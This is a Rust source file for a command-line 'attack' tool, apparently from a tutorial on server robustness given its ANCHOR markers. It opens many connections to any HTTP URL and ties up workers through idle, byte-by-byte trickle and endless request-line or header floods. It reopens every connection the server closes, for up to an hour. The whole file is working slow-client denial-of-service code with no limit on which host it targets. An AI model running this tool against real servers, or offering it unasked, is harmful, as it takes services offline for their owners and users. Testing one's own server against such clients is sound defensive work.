use std::{
    env,
    io::{self, Read, Write},
    net::{SocketAddr, TcpStream, ToSocketAddrs},
    ops::RangeInclusive,
    process, thread,
    time::{Duration, Instant},
};

const USAGE: &str = "usage: attack idle|trickle|long-line|long-head|bad-utf8 \
                     [--connections N] [--duration SECONDS] [--interval MS] \
                     http://HOST[:PORT][/PATH]";

/// How many bytes a flooding connection offers the server in one write.
const FLOOD_CHUNK: usize = 64 * 1024;

// ANCHOR: main
fn main() {
    let options = Options::parse(env::args().skip(1)).unwrap_or_else(|message| {
        eprintln!("error: {message}");
        eprintln!("{USAGE}");
        process::exit(2);
    });
    let target = &options.target;
    println!(
        "{} on {} connections to {} for {} s",
        options.mode.name(),
        options.connections,
        target.host,
        options.duration.as_secs()
    );

    // Every connection first, so that the server has all of them at once.
    let mut streams = Vec::new();
    for _ in 0..options.connections {
        match TcpStream::connect(target.addr) {
            Ok(stream) => streams.push((stream, Instant::now())),
            Err(err) => {
                eprintln!("error: cannot connect to {}: {err}", target.addr);
                process::exit(1);
            }
        }
    }
    println!("{} connections open", streams.len());

    let deadline = Instant::now() + options.duration;
    let mut clients = Vec::new();
    for (stream, opened) in streams {
        let (addr, mode, interval) = (target.addr, options.mode, options.interval);
        let opening = mode.opening(target);
        clients.push(thread::spawn(move || {
            keep_attacking(stream, opened, addr, deadline, mode, interval, &opening)
        }));
    }
    let mut ends = Vec::new();
    for client in clients {
        ends.extend(client.join().expect("a client thread panicked"));
    }
    report(&ends);
}
// ANCHOR_END: main

// ANCHOR: hold
// ANCHOR: mode
/// What the attack does on each connection.
#[derive(Clone, Copy)]
enum Mode {
    /// Sends nothing at all.
    Idle,
    /// Sends the start of a request whose head never ends, one byte per
    /// interval after that.
    Trickle,
    /// Sends a request line that never ends, as fast as the server reads.
    LongLine,
    /// Sends a request line, then header lines that never end, each of them
    /// short, as fast as the server reads.
    LongHead,
    /// Sends a whole request, once, whose target is not UTF-8.
    BadUtf8,
}

impl Mode {
    fn name(self) -> &'static str {
        match self {
            Mode::Idle => "idle",
            Mode::Trickle => "trickle",
            Mode::LongLine => "long-line",
            Mode::LongHead => "long-head",
            Mode::BadUtf8 => "bad-utf8",
        }
    }

    /// What each connection sends first.
    fn opening(self, target: &Target) -> Vec<u8> {
        let Target { host, path, .. } = target;
        match self {
            Mode::Idle => Vec::new(),
            Mode::Trickle => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Trickle: ").into(),
            Mode::LongLine => format!("GET {path}").into(),
            Mode::LongHead => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n").into(),
            // `café` as Latin-1 writes it: the `é` is one byte, 0xE9, which
            // UTF-8 never uses alone.
            Mode::BadUtf8 => {
                let mut request = format!("GET {path}caf").into_bytes();
                request.push(0xE9);
                request.extend_from_slice(format!(" HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes());
                request
            }
        }
    }

    /// Whether a client opens another connection when the server ends one:
    /// every attack that holds a worker does.
    fn again(self) -> bool {
        !matches!(self, Mode::BadUtf8)
    }

    /// What a flooding connection sends, again and again, after its
    /// opening: `None` for the modes that do not flood.
    fn flood(self) -> Option<Vec<u8>> {
        match self {
            Mode::LongLine => Some(vec![b'a'; FLOOD_CHUNK]),
            Mode::LongHead => {
                let line = b"X-Long-Head: aaaaaaaaaaaaaaaa\r\n";
                Some(line.repeat(FLOOD_CHUNK / line.len()))
            }
            Mode::Idle | Mode::Trickle | Mode::BadUtf8 => None,
        }
    }
}
// ANCHOR_END: mode

/// How a connection of the attack ended.
enum End {
    /// It was still open when the attack was over.
    Held,
    /// The server closed it, `after` it was opened, having sent `answer`.
    Closed { after: Duration, answer: Vec<u8> },
    /// The server reset it, or it (or connecting again) failed in another
    /// way, named by `kind`, having sent `answer` first (if anything).
    Failed {
        after: Duration,
        kind: io::ErrorKind,
        answer: Vec<u8>,
    },
}

/// One client of the attack: it holds its connection until `deadline`,
/// and each time the server ends it, opens another, as an attacker would
/// (a client with a bad request only wants its answer, and stops there).
fn keep_attacking(
    mut stream: TcpStream,
    mut opened: Instant,
    addr: SocketAddr,
    deadline: Instant,
    mode: Mode,
    interval: Duration,
    opening: &[u8],
) -> Vec<End> {
    let mut ends = Vec::new();
    loop {
        let end = hold(stream, opened, deadline, mode, interval, opening);
        let held = matches!(end, End::Held);
        ends.push(end);
        // A client with a bad request sends it once: it wants the answer.
        if held || Instant::now() >= deadline || !mode.again() {
            return ends;
        }
        match TcpStream::connect(addr) {
            Ok(next) => (stream, opened) = (next, Instant::now()),
            // The server is gone, or refuses: this client stops.
            Err(err) => {
                ends.push(End::Failed {
                    after: Duration::ZERO,
                    kind: err.kind(),
                    answer: Vec::new(),
                });
                return ends;
            }
        }
    }
}

/// Holds one connection until `deadline`, or until the server ends it.
/// Waiting for the server's bytes is what paces the trickle: each wait
/// lasts one interval, and a byte goes out after each.
fn hold(
    mut stream: TcpStream,
    opened: Instant,
    deadline: Instant,
    mode: Mode,
    interval: Duration,
    opening: &[u8],
) -> End {
    if let Err(err) = stream.write_all(opening) {
        return failed(&mut stream, opened, err, Vec::new());
    }
    if let Some(flood) = mode.flood() {
        return keep_sending(stream, opened, deadline, interval, &flood);
    }
    let mut answer = Vec::new();
    let mut buffer = [0; 1024];
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return End::Held;
        }
        // A read timeout of zero is an error: `left` is not zero here.
        if let Err(err) = stream.set_read_timeout(Some(left.min(interval))) {
            return failed(&mut stream, opened, err, answer);
        }
        match stream.read(&mut buffer) {
            Ok(0) => {
                return End::Closed {
                    after: opened.elapsed(),
                    answer,
                };
            }
            Ok(read) => answer.extend_from_slice(&buffer[..read]),
            // Nothing from the server for a whole interval: one more byte.
            Err(err)
                if matches!(
                    err.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) =>
            {
                if let Mode::Trickle = mode
                    && let Err(err) = stream.write_all(b"x")
                {
                    return failed(&mut stream, opened, err, answer);
                }
            }
            Err(err) => return failed(&mut stream, opened, err, answer),
        }
    }
}

// ANCHOR: flood
/// Sends `flood` again and again, as fast as the server reads it, until
/// `deadline` or until the server ends the connection. A server that stops
/// reading makes each write wait: the wait is bounded by one interval, and
/// the connection is held.
fn keep_sending(
    mut stream: TcpStream,
    opened: Instant,
    deadline: Instant,
    interval: Duration,
    flood: &[u8],
) -> End {
    loop {
        let left = deadline.saturating_duration_since(Instant::now());
        if left.is_zero() {
            return End::Held;
        }
        if let Err(err) = stream.set_write_timeout(Some(left.min(interval))) {
            return failed(&mut stream, opened, err, Vec::new());
        }
        match stream.write(flood) {
            Ok(_) => {}
            Err(err)
                if matches!(
                    err.kind(),
                    io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut
                ) => {}
            // The server closed the connection, with unread bytes in it: a
            // reset. It may have answered first: read what arrived.
            Err(err) => return failed(&mut stream, opened, err, Vec::new()),
        }
    }
}

/// How a connection ends that failed with `err`: with what the server had
/// sent by then, `answer` and whatever is still waiting to be read.
fn failed(stream: &mut TcpStream, opened: Instant, err: io::Error, mut answer: Vec<u8>) -> End {
    let after = opened.elapsed();
    // The bytes that arrived before a reset can still be read, once.
    let _ = stream.set_read_timeout(Some(Duration::from_millis(100)));
    let mut buffer = [0; 1024];
    while let Ok(read @ 1..) = stream.read(&mut buffer) {
        answer.extend_from_slice(&buffer[..read]);
    }
    End::Failed {
        after,
        kind: err.kind(),
        answer,
    }
}
// ANCHOR_END: flood
// ANCHOR_END: hold

// ANCHOR: report
/// Prints how the connections ended, and when.
fn report(ends: &[End]) {
    let mut held = 0;
    let mut closed = 0;
    let mut reset = 0;
    let mut other = 0;
    let mut answers: Vec<(String, u64)> = Vec::new();
    let mut ended_after: Vec<Duration> = Vec::new();
    for end in ends {
        match end {
            End::Held => held += 1,
            End::Closed { after, answer } => {
                closed += 1;
                ended_after.push(*after);
                count_answer(&mut answers, answer);
            }
            End::Failed {
                after,
                kind,
                answer,
            } => {
                ended_after.push(*after);
                match kind {
                    io::ErrorKind::ConnectionReset
                    | io::ErrorKind::ConnectionAborted
                    | io::ErrorKind::BrokenPipe => reset += 1,
                    _ => other += 1,
                }
                count_answer(&mut answers, answer);
            }
        }
    }
    println!(
        "connections: {} in all, {held} held to the end, {closed} closed by the server, \
         {reset} reset, {other} failed otherwise",
        ends.len()
    );
    if answers.is_empty() {
        println!("answers: none");
    } else {
        let answers: Vec<String> = answers
            .iter()
            .map(|(status, count)| format!("{status} {count}"))
            .collect();
        println!("answers: {}", answers.join(", "));
    }
    if let (Some(first), Some(last)) = (ended_after.iter().min(), ended_after.iter().max()) {
        println!(
            "ended after (ms): first {}, last {}",
            first.as_millis(),
            last.as_millis()
        );
    }
}

/// Counts the status line of `answer`, without its version (`408 Request
/// Timeout`), in `answers`; an empty answer is not counted.
fn count_answer(answers: &mut Vec<(String, u64)>, answer: &[u8]) {
    if answer.is_empty() {
        return;
    }
    let text = String::from_utf8_lossy(answer);
    let status = text.lines().next().unwrap_or("");
    let status = match status.split_once(' ') {
        Some((_, status)) => status.to_string(),
        None => "no status line".to_string(),
    };
    match answers.iter_mut().find(|(seen, _)| *seen == status) {
        Some((_, count)) => *count += 1,
        None => answers.push((status, 1)),
    }
}
// ANCHOR_END: report

// ANCHOR: options
/// What the command line asks for.
struct Options {
    mode: Mode,
    /// How many connections the attack opens, all at once.
    connections: u64,
    /// How long it holds them.
    duration: Duration,
    /// How long a trickling connection waits between two bytes, and the
    /// longest a flooding one waits for the server to read more.
    interval: Duration,
    target: Target,
}

impl Options {
    /// Reads `MODE [--connections N] [--duration SECONDS] [--interval MS]
    /// URL`: the mode first, then the rest in any order.
    fn parse(mut args: impl Iterator<Item = String>) -> Result<Options, String> {
        let modes = [
            Mode::Idle,
            Mode::Trickle,
            Mode::LongLine,
            Mode::LongHead,
            Mode::BadUtf8,
        ];
        let names = "`idle`, `trickle`, `long-line`, `long-head` or `bad-utf8`";
        let mode = match args.next() {
            Some(arg) => match modes.into_iter().find(|mode| mode.name() == arg) {
                Some(mode) => mode,
                None => {
                    return Err(format!(
                        "the first argument is the attack, {names}, not `{arg}`"
                    ));
                }
            },
            None => return Err(format!("name the attack: {names}")),
        };
        let mut connections = 4;
        let mut duration = Duration::from_secs(10);
        let mut interval = Duration::from_secs(1);
        let mut url = None;
        while let Some(arg) = args.next() {
            match arg.as_str() {
                "--connections" => connections = number(&arg, args.next(), 1..=1000)?,
                "--duration" => {
                    duration = Duration::from_secs(number(&arg, args.next(), 1..=3600)?);
                }
                "--interval" => {
                    interval = Duration::from_millis(number(&arg, args.next(), 1..=60_000)?);
                }
                _ if arg.starts_with('-') => return Err(format!("unknown option `{arg}`")),
                _ if url.is_some() => return Err(format!("one URL only: `{arg}` is a second")),
                _ => url = Some(arg),
            }
        }
        let url = url.ok_or("give the URL to attack")?;
        Ok(Options {
            mode,
            connections,
            duration,
            interval,
            target: Target::parse(&url)?,
        })
    }
}

/// The value that follows `option`, as a whole number within `range`.
fn number(option: &str, value: Option<String>, range: RangeInclusive<u64>) -> Result<u64, String> {
    let value = value.ok_or_else(|| format!("`{option}` needs a value"))?;
    match value.parse() {
        Ok(number) if range.contains(&number) => Ok(number),
        _ => Err(format!(
            "`{option}` takes a whole number from {} to {}, not `{value}`",
            range.start(),
            range.end()
        )),
    }
}
// ANCHOR_END: options

// ANCHOR: target
/// Where the attack goes.
struct Target {
    addr: SocketAddr,
    /// The URL's `HOST[:PORT]`, for the `Host` header.
    host: String,
    path: String,
}

impl Target {
    /// Reads `http://HOST[:PORT][/PATH]`; the port is 80 and the path `/`
    /// unless the URL says otherwise.
    fn parse(url: &str) -> Result<Target, String> {
        let rest = url
            .strip_prefix("http://")
            .ok_or_else(|| format!("`{url}` is not an http:// URL"))?;
        let (host, path) = match rest.find('/') {
            Some(slash) => rest.split_at(slash),
            None => (rest, "/"),
        };
        if host.is_empty() {
            return Err(format!("`{url}` names no host"));
        }
        let with_port = if host.contains(':') {
            host.to_string()
        } else {
            format!("{host}:80")
        };
        let addr = with_port
            .to_socket_addrs()
            .map_err(|err| format!("cannot find `{host}`: {err}"))?
            .next()
            .ok_or_else(|| format!("`{host}` has no address"))?;
        Ok(Target {
            addr,
            host: host.to_string(),
            path: path.to_string(),
        })
    }
}
// ANCHOR_END: target
